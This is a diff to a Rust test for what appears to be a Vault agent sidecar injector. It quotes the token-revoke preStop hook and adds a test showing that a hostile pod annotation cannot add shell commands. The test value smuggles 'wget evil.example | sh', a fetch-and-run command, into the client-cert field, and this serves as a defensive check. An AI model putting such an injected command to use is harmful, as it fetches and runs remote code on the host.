@@ -251,8 +251,27 @@ fn agent_revoke_on_shutdown_per_flavour_and_shape() {
         [
             "/bin/sh",
             "-c",
-            "/bin/sleep 5 && /bin/vault token revoke -address=https://vault.vault.svc:8200 -ca-cert=/vault/tls/ca.crt -self"
+            "/bin/sleep 5 && /bin/vault token revoke -address='https://vault.vault.svc:8200' -ca-cert='/vault/tls/ca.crt' -self"
         ]
+    );
+    // An annotation value cannot add shell commands to the hook.
+    let hostile = pod(&with(&[
+        ("agent-revoke-on-shutdown", "true"),
+        ("client-cert", "/c.crt; wget evil.example | sh; echo 'x"),
+    ]));
+    let hook = container(&injected(&hostile, &stock(classic())), "vault-agent")
+        .lifecycle
+        .clone()
+        .unwrap()
+        .pre_stop
+        .unwrap()
+        .exec
+        .unwrap()
+        .command
+        .unwrap();
+    assert!(
+        hook[2].contains(r"-client-cert='/c.crt; wget evil.example | sh; echo '\''x' -self"),
+        "{hook:?}"
     );
     // The flag sets the default.
     let flag = InjectorSettings {
